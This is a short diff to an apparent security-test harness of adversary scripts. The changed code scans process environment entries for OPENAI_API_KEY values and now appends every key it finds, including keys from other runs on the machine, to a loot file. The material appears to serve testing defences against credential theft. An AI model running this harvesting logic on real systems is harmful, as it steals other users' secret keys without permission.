@@ -113,8 +113,9 @@ ADVERSARIES = [
                 continue
             for pair in pairs:
                 if pair.startswith(b"OPENAI_API_KEY="):
-                    try:
-                        pathlib.Path("{loot}", "proc-key").write_bytes(pair)
+                    try:  # every key found (other runs on the machine may hold one too)
+                        with open("{loot}/proc-key", "ab") as loot:
+                            loot.write(pair + b"\\n")
                     except OSError:
                         pass
         """) + FAST,
